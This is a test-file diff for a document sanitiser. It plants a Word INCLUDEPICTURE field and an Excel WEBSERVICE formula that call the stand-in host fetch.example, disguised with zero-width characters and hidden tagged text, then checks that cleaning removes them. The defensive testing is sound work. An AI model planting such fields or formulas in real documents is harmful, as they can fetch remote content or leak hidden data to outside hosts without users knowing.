@@ -164,6 +164,23 @@ describe('a text that only programs see is in no copy', () => {
     expect(result.hiddenRemoved).toBe(true)
   })
 
+  test('documents and workbooks, in texts and attributes, and no field or formula comes to life by it', async () => {
+    const field = `<w:fldSimple w:instr="INCLUDE\u200bPICTURE https://fetch.example/${tagged}"/>`
+    const paragraph = `<w:p><w:r><w:t>Techo${tagged}</w:t></w:r>${field}</w:p>`
+    const xmlns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+    const document = `<w:document ${xmlns}><w:body>${paragraph}</w:body></w:document>`
+    const formula = '<f>WEB\u200bSERVICE("https://fetch.example")</f>'
+    const sheet = `<worksheet><sheetData><row r="1"><c r="A1">${formula}<v>1</v></c></row></sheetData></worksheet>`
+    for (const planted of [
+      await plantedDocx(`Chapas${tagged} de techo`, { 'word/document.xml': document }),
+      plantedXlsx(`Chapas${tagged} de techo`, { 'xl/worksheets/sheet1.xml': sheet }),
+    ]) {
+      const parts = Object.values(unzipSync(cleaned(await shown(new Uint8Array(planted))).bytes))
+      const text = parts.map((part) => Buffer.from(part).toString()).join('')
+      expect(text).not.toMatch(/[\u200b\u{e0000}-\u{e007f}]|fetch\.example/u)
+    }
+  })
+
   test('a CSV, whose other bytes stay', async () => {
     const bytesOf = (text: string) => new Uint8Array(Buffer.from(text))
     const rows = 'Producto;Precio\r\nChapa;-1\r\n'
